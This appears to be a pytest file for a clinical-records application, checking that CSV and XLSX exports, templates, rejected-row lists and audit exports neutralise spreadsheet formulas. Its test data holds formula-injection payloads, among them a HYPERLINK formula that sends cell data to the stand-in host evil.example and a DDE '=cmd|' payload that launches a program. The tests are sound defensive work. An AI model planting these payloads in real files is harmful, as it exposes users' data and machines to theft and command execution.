"""A text that a spreadsheet would run leaves as text, wherever it stands, and comes back as it was."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
from collections.abc import Iterator
from typing import Any

import openpyxl
import pytest

from tests.attack.castle import Castle
from tests.metamodel.api.office import Person
from tests.metamodel.live import a_document, a_field, a_type, choices

# What spreadsheets take for the beginning of a formula: also behind blanks that they drop, in full width, and
# behind the apostrophe that hides it.
LEADS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'=", "''+", "-@", "=-", "@@")
FORMULAS = [
    *(f'{lead}HYPERLINK("http://evil.example/"&A1)' for lead in LEADS),
    "=cmd|'/C calc'!A0",
    "-1+1|x",
    "=1\r\n=2",
    '";=1',
]
NUMBER = re.compile(r"[+-]\d+")
RUN = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

LABEL = {"zh": "=1+1", "en": "@SUM(1)"}
DOCUMENT = a_document(
    "sheets",
    a_type(
        "patient",
        a_field("no"),
        {**a_field("text", "long_text"), "label": LABEL, "unit": "=2+2"},
        {**a_field("kind", "choice", value_set="kinds"), "label": {"zh": "+三", "en": "-c"}},
        a_field("weight", "decimal", minimum=1, checks=[{
            "expression": "[weight] < 100", "message": {"zh": "=4+4", "en": "@4"},
        }]),
        key="no",
    ),
    value_sets={"kinds": {**choices("1"), "choices": [{"code": "1", "label": {"zh": "=5+5", "en": "@5"}}]}},
)  # fmt: skip
WHERE = "/databases/sheets"
PATIENTS = f"{WHERE}/records/patient"


@pytest.fixture
def admin(castle: Castle) -> Person:
    admin = castle.person("research_admin")
    admin.post("/databases", {"document": DOCUMENT})
    admin.publish("sheets")
    return admin


def export(admin: Person, **more: Any) -> bytes:
    body = {"record_type": "patient", "format": "csv", "labels": False} | more
    job = admin.finish(admin.post(f"{WHERE}/record-exports", body)["job"])
    return bytes(admin.caller.get(f"/files/{job['result']['file_id']}").data)


def load(admin: Person, name: str, content: bytes) -> Any:
    file = admin.upload(name, content)
    return admin.finish(
        admin.post(f"{WHERE}/record-imports", {"file_id": file, "record_type": "patient"})["job"]
    )["result"]


def cells(content: bytes) -> Iterator[str]:
    """Those of a CSV file."""
    yield from itertools.chain(*csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def assert_harmless(content: bytes) -> None:
    if content[:2] == b"PK":
        for sheet in openpyxl.load_workbook(io.BytesIO(content)):
            assert [
                cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
            ] == []
    else:
        assert [cell for cell in cells(content) if cell.startswith(RUN)] == []


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_what_leaves_comes_back_as_it_was(admin: Person, format: str) -> None:
    for number, text in enumerate(FORMULAS):
        admin.add(PATIENTS, no=f"K{number}", text=text, kind="1")
    stored = [item["values"]["text"] for item in admin.get(PATIENTS, order="no", limit=100)["items"]]
    content = export(admin, format=format)
    assert_harmless(content)
    for item in admin.get(PATIENTS, limit=100)["items"]:
        admin.ask("PATCH", f"{PATIENTS}/{item['id']}", {"version": 1, "values": {"text": "gone"}})

    assert load(admin, f"back.{format}", content)["rejected_rows"] == 0

    after = [item["values"]["text"] for item in admin.get(PATIENTS, order="no", limit=100)["items"]]
    assert after == stored


@pytest.mark.parametrize("format", ["csv", "xlsx"])
@pytest.mark.parametrize("language", ["zh", "en"])
def test_labels_of_columns_and_choices_run_nothing(admin: Person, format: str, language: str) -> None:
    admin.add(PATIENTS, no="=K", text="+t", kind="1")
    content = export(admin, format=format, labels=True, language=language)

    assert_harmless(content)
    assert load(admin, f"back.{format}", content)["rejected_rows"] == 0


@pytest.mark.parametrize(("format", "headings"), itertools.product(["csv", "xlsx"], ["codes", "labels"]))
def test_a_template_runs_nothing(admin: Person, format: str, headings: str) -> None:
    query = {"format": format, "headings": headings}

    assert_harmless(admin.caller.get(f"{WHERE}/record-templates/patient", query_string=query).data)


def test_a_list_of_rejected_rows_runs_nothing(admin: Person) -> None:
    """Neither the value, nor a field that only the file knows, nor the designer's message."""
    lines = [{"no": "1", "weight": "=6+6"}, {"no": "2", "=7+7": "x"}, {"no": "3", "weight": 500}]
    content = "\n".join(map(json.dumps, lines)).encode()

    result = load(admin, "rows.jsonl", content)

    assert result["rejected_rows"] == 3
    listed = admin.caller.get(f"/files/{result['rejected_file']}").data
    assert {"'=6+6", "'=4+4"} <= set(cells(listed))
    assert_harmless(listed)


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_a_reason_in_the_audit_trail_runs_nothing(castle: Castle, admin: Person, format: str) -> None:
    item = admin.add(PATIENTS, no="1", text="t")
    for text in FORMULAS:
        admin.ask("PUT", f"{PATIENTS}/{item['id']}/grade", {"grade": 1, "reason": text})
    auditor = castle.person("audit_admin")

    asked = auditor.post("/audit/exports", {"format": format, "language": "zh", "filters": {}})
    job = auditor.finish(asked["job"])
    content = auditor.caller.get(f"/files/{job['result']['file_id']}").data

    assert b"HYPERLINK" in content or format == "xlsx"
    assert_harmless(content)
